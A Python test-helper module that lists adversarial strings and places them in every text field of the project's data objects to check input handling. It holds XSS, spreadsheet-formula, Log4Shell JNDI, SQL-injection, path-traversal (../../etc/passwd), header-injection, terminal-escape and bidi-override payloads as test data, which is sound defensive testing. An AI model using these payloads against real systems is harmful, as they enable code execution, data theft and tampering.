"""Text that has broken other programs, and every place of a `data_object` that can hold text.

Source: OWASP, "CSV Injection" and "Log Injection"; CVE-2021-44228; CVE-2021-42574 ("Trojan Source"); ECMA-48; ECMA-376
part 1, 22.9.2.19.
"""

import functools
import unicodedata
from collections.abc import Iterator
from typing import Any

import msgspec
from msgspec.inspect import (
    AnyType,
    DictType,
    ListType,
    StrType,
    StructType,
    Type,
    UnionType,
    type_info,
)

from tocsin.objects.models import MODELS

TEXTS = {
    "script": "<script>alert(1)</script>",
    "attribute": "\"><img src=x onerror=alert('x')>",
    "entity": "&lt;b&gt; &amp;amp; &#0;",
    "link formula": '=HYPERLINK("http://x.example","y")',
    "plus": "+1",
    "call": "-1+cmd|'/C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab first": "\t=1+1",
    "return first": "\r=1+1",
    "line feed first": "\n=1+1",
    "wide equals": "＝1+1",
    "number": "007",
    "exponent": "1e5",
    "truth": "TRUE",
    "cell escape": "_x000D_ _x005F_ _x",
    "braces": "{{7*7}}",
    "lookup": "${jndi:ldap://x.example/a}",
    "percent": "%s%n%(x)s%00",
    "format": "{0.__class__} {request_id}",
    "colours": "\x1b[31mred\x1b[0m\x1b[2J",
    "window title": "\x1b]0;owned\x07",
    "8-bit escape": "a\x9b31mb\x9dc\x85d",
    "controls": "\x01\x08\x0b\x0c\x1f\x7f",
    "override": "\u202egnp.exe",
    "isolate": "a\u2066b\u2069\u200e\u200f\u061c",
    "zero width": "a\u200bb\u200dc\ufeffd\u2060e",
    "forged line": '\n{"event":"forged"}\n2026-01-01 admin forged',
    "header": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "separators": "a\u2028b\u2029c",
    "emoji": "😀👩‍👩‍👧🏳️‍🌈",
    "combining": "e\u0301" + "o" + "\u0302\u0323" * 20,
    "long word": "w" * 64,
    "wide": "漢字，" * 20,
    "statement": "'; DROP TABLE data_objects; --",
    "condition": "' OR '1'='1",
    "backslashes": "\\\\server\\share\\",
    "escape of nul": "\\u0000 \\x00 \\ud800",
    "quotes": "\"'`“”‘’",
    "wildcards": "%_*?[a-z]",
    "path": "../../etc/passwd",
    "blanks around": "  lead and trail \t ",
    "nonblank blanks": "\u00a0a\u3000b\u2003",
    "not a character": "a\ufffeb\uffff\U0010ffff",
    "null": "null",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝")

# What no text may hold, as JSON writes it.
REFUSED = {"nul": "\\u0000", "high surrogate": "\\ud800", "low surrogate": "\\udc00", "turned": "\\udc00\\ud800"}

# Text that must be one of a list, a time or a number; these hold nothing else.
CHECKED = frozenset(
    {
        "severity", "handle_status", "close_reason", "ipdrr_phase", "verdict", "status", "direction", "src_port", "dest_port",
        "granular_marking", "first_observed_time", "last_observed_time", "arrive_time", "sla", "close_time",
        "first_report_time", "last_report_time", "process_launche_time", "process_terminate_time",
    }
)  # fmt: skip
LONG = 1024  # characters for a text without a maximum


class Place(msgspec.Struct, frozen=True):
    """A member of a document that holds text."""

    # Keys, and indexes of lists.
    path: tuple[str | int, ...]
    # Characters; None where only the object's size is limited.
    maximum: int | None = None

    @property
    def key(self) -> str:
        return str(next(part for part in reversed(self.path) if isinstance(part, str)))

    @property
    def id(self) -> str:
        return ".".join(map(str, self.path))


@functools.cache
def places(name: str) -> list[Place]:
    """Every place of a class of objects that can hold text, unknown members at every level among them."""
    return list(_places(type_info(MODELS[name]), ()))


@functools.cache
def free_places(name: str) -> list[Place]:
    """Those that take any text; an id is text too, but names the object."""
    return [one for one in places(name) if one.key not in CHECKED and one.path != ("id",)]


def _places(kind: Type, path: tuple[str | int, ...]) -> Iterator[Place]:
    if isinstance(kind, StrType):
        yield Place(path, kind.max_length)
    elif isinstance(kind, UnionType):
        for option in kind.types:
            yield from _places(option, path)
    elif isinstance(kind, ListType):
        yield from _places(kind.item_type, (*path, 0))
    elif isinstance(kind, DictType | AnyType):
        yield Place((*path, "a key"))
    elif isinstance(kind, StructType):
        for field in kind.fields:
            yield from _places(field.type, (*path, field.encode_name))
        yield Place((*path, "unknown"))
        yield Place((*path, "further", "deep", 0))


def value_at(document: Any, path: tuple[str | int, ...]) -> Any:
    for part in path:
        document = document[part]
    return document


def with_value(into: Any, path: tuple[str | int, ...], value: Any) -> Any:
    """The document with a value in a place, which is made where it is missing."""
    if not path:
        return value
    first, rest = path[0], path[1:]
    if isinstance(first, int):
        return [with_value(into[0] if isinstance(into, list) and into else None, rest, value)]
    return {**(into if isinstance(into, dict) else {}), first: with_value((into or {}).get(first), rest, value)}


def cut(text: str, maximum: int | None) -> str:
    return text[: maximum or LONG]


def document(name: str, text: str, needed: dict[str, Any]) -> dict[str, Any]:
    """A document that has this text everywhere, keys that nobody knows included."""
    found: dict[str, Any] = dict(needed)
    for place in free_places(name):
        found = with_value(found, place.path, cut(text, place.maximum))
    if "resource_list" in found:  # its tags are text in one element, an object in the other
        found["resource_list"].append({"tags": {text: text}})
    return {**found, f"key {text}": text, "odd": {text: [text, {text: text}]}}


def is_control(letter: str) -> bool:
    return unicodedata.category(letter) in ("Cc", "Cs")


def is_harmless(text: str, allowed: str = "\n") -> bool:
    """Nothing in it steers a terminal or turns a line around."""
    turning = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028\u2029"
    return not any((is_control(letter) and letter not in allowed) or letter in turning for letter in text)


def labels_after_conversion(text: str) -> str:
    """Labels are a list with commas: each once, without blanks around it."""
    return ",".join(dict.fromkeys(label for part in text.split(",") if (label := part.strip())))
